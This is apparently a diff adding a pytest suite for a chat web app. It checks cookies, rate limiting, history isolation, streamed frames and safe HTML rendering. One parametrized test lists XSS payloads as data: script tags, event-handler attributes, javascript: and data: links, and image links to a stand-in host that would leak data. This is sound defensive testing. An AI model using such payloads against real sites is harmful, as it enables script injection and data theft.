@@ -1,0 +1,175 @@
+"""The web chat: who a visitor is, what leaves and arrives, and that nothing in it can run."""
+
+from __future__ import annotations
+
+import asyncio
+from collections.abc import AsyncIterator
+from html.parser import HTMLParser
+from typing import Any
+
+import orjson
+import pytest
+
+from assistant.errors import BadSignature
+from assistant.types import Address
+from assistant.web.chat import shaped
+from assistant.web.prose import to_html
+from tests.web.conftest import PAGE, Site, add_conversation, add_message, visitor_key
+
+JSON = {"Accept": "application/json"}
+
+
+async def test_a_new_visitor_gets_a_cookie_that_scripts_cannot_read_and_keeps_it(site: Site) -> None:
+    answer = await site.get("/chat")
+    cookie = answer.headers["Set-Cookie"]
+    assert cookie.startswith("visitor=v-visitor0;")
+    assert "HttpOnly" in cookie
+    assert "SameSite=Lax" in cookie
+    assert "Set-Cookie" not in (await site.get("/chat")).headers
+    text = await answer.text()
+    assert "Answers can be wrong." in text
+    assert "demo model" in text
+
+
+async def test_a_message_goes_to_walk_one_as_it_came(site: Site) -> None:
+    await site.get("/chat")
+    body = b'{"id":"1","text":"hello"}'
+    answer = await site.post("/chat/messages", data=body, headers=JSON)
+    assert (answer.status, await answer.json()) == (200, {"stored": 1})
+    channel, request = site.inbound.requests[0]
+    assert (channel, request.method, request.body) == (PAGE, "POST", body)
+    assert request.header("cookie") == "visitor=v-visitor0"
+
+
+async def test_a_visitor_without_our_cookie_is_refused(site: Site) -> None:
+    for cookie in ({}, {"Cookie": "visitor=forged"}):
+        assert (await site.post("/chat/messages", data=b"{}", headers={**JSON, **cookie})).status == 403
+        assert (await site.get("/chat/history", headers={**JSON, **cookie})).status == 403
+    site.inbound.error = BadSignature("no")
+    await site.get("/chat")
+    assert (await site.post("/chat/messages", data=b"{}", headers=JSON)).status == 403
+
+
+async def test_a_flood_and_a_flood_of_words_are_refused(site: Site) -> None:
+    await site.get("/chat")
+    assert (await site.post("/chat/messages", data=b"x" * 70_000, headers=JSON)).status == 413
+    statuses = [(await site.post("/chat/messages", data=b"{}", headers=JSON)).status for _ in range(20)]
+    assert statuses.count(429) >= 5
+    site.clock.advance(10)
+    assert (await site.post("/chat/messages", data=b"{}", headers=JSON)).status == 200
+
+
+async def test_history_is_the_visitors_own_in_order_without_orders_and_inner_notes(site: Site) -> None:
+    await site.get("/chat")
+    now = site.clock.now()
+
+    def seed(connection: Any) -> None:
+        mine = add_conversation(connection, now, channel=PAGE, peer="v-visitor0")
+        other = add_conversation(connection, now, channel=PAGE, peer="v-other")
+        add_message(connection, other, 1, now, "not yours")
+        add_message(connection, mine, 1, now, "one", external_id="v-visitor0:a", outcome="answered")
+        add_message(connection, mine, 2, now, "two", external_id="v-visitor0:b")
+        add_message(connection, mine, 3, now, "**re** one", out=True, after_seq=1, sent={"external_id": "k-1"})
+        add_message(connection, mine, 4, now, "/stop", external_id="v-visitor0:c", outcome="command")
+        add_message(connection, mine, 5, now, "staff only", direction="internal", author="staff")
+        add_message(connection, mine, 6, now, "dropped", out=True, sent={"state": "cancelled"})
+
+    await site.database.write(seed)
+    found = (await (await site.get("/chat/history", headers=JSON)).json())["messages"]
+    assert [(item["id"], item["text"], item["waiting"]) for item in found] == [
+        ("v-visitor0:a", "one", False),
+        ("k-1", "**re** one", False),
+        ("v-visitor0:b", "two", True),
+    ]
+    assert found[1]["html"] == "<p><strong>re</strong> one</p>\n"
+    assert found[0]["html"] is None
+
+
+async def test_frames_reach_the_visitor_they_are_for_as_safe_html(site: Site) -> None:
+    await site.get("/chat")
+    key = visitor_key("v-visitor0")
+    other = Address(channel=PAGE, account="web", peer="v-other").key
+    async with site.client.ws_connect(f"{site.url}/chat/events", headers={"Origin": site.url}) as socket:
+        await socket.receive_json(timeout=3)
+        await site.bus.publish(f"page:{other}", orjson.dumps({"kind": "message", "id": "0", "text": "not yours"}))
+        await site.bus.publish(f"page:{key}", orjson.dumps({"kind": "typing"}))
+        frame = {"kind": "message", "id": "1", "text": "<b>hi</b> **you**"}
+        await site.bus.publish(f"page:{key}", orjson.dumps(frame))
+        assert await socket.receive_json(timeout=3) == {"kind": "typing"}
+        arrived = await socket.receive_json(timeout=3)
+        assert arrived["html"] == "<p>&lt;b&gt;hi&lt;/b&gt; <strong>you</strong></p>\n"
+
+
+async def frames(*items: dict[str, Any]) -> AsyncIterator[bytes]:
+    for item in items:
+        yield orjson.dumps(item)
+    await asyncio.sleep(0.2)
+
+
+def delta(offset: int, text: str, turn: str = "1.1") -> dict[str, Any]:
+    return {"kind": "delta", "turn": turn, "offset": offset, "text": text}
+
+
+async def test_a_stream_shows_all_text_so_far_and_its_end_before_done() -> None:
+    source = frames(delta(0, "a **b"), delta(5, "** c"), {"kind": "done", "turn": "1.1", "finish": "answered"})
+    shown = [orjson.loads(frame) async for frame in shaped(source)]
+    assert [frame["kind"] for frame in shown] == ["delta", "delta", "done"]
+    assert shown[1]["html"] == "<p>a <strong>b</strong> c</p>\n"
+
+
+async def test_a_burst_of_deltas_is_rendered_now_and_then() -> None:
+    source = frames(*(delta(number, "x") for number in range(500)))
+    shown = [orjson.loads(frame) async for frame in shaped(source)]
+    assert len(shown) < 10
+    assert shown[-1]["html"] == f"<p>{'x' * 500}</p>\n"
+
+
+async def test_who_joins_late_sees_the_rest_and_a_second_round_starts_anew() -> None:
+    shown = [orjson.loads(frame) async for frame in shaped(frames(delta(40, "later words")))]
+    assert shown[-1]["html"] == "<p>… later words</p>\n"
+    shown = [orjson.loads(frame) async for frame in shaped(frames(delta(0, "first"), delta(0, "again")))]
+    assert shown[-1]["html"] == "<p>again</p>\n"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "[x](javascript:alert(1))",
+        "[x](JaVaScRiPt&#58;alert(1))",
+        "[x](data:text/html;base64,PHNjcmlwdD4=)",
+        "![x](https://evil.example/?leak)",
+        "![x][1]\n\n[1]: https://evil.example/leak.png",
+        "```<script>\nalert(1)\n```",
+        '```"onmouseover="alert(1)\nx\n```',
+        '[x](https://a.example/"onmouseover="alert(1))',
+        "<https://a.example/<script>>",
+        "    <script>alert(1)</script>",
+        "|a|\n|-|\n|<svg onload=alert(1)>|",
+    ],
+)
+def test_nothing_in_an_answer_can_run_or_load(text: str) -> None:
+    seen = Seen()
+    seen.feed(to_html(text))
+    assert {tag for tag, _ in seen.found} <= {"p", "br", "a", "pre", "code", "table", "thead", "tbody", "tr", "th", "td"}
+    for tag, attributes in seen.found:
+        assert set(attributes) <= {"a": {"href", "rel", "target"}, "pre": {"tabindex", "data-language"}}.get(tag, set())
+        assert attributes.get("href", "https://").startswith(("https://", "http://", "mailto:"))
+
+
+class Seen(HTMLParser):
+    """What a browser would make of the text: tags and their attributes."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, {name: value or "" for name, value in attrs}))
+
+
+def test_links_carry_no_trust() -> None:
+    html = to_html("[x](https://a.example/?a=1&b=2)")
+    assert 'href="https://a.example/?a=1&amp;b=2"' in html
+    assert 'rel="noopener noreferrer nofollow"' in html
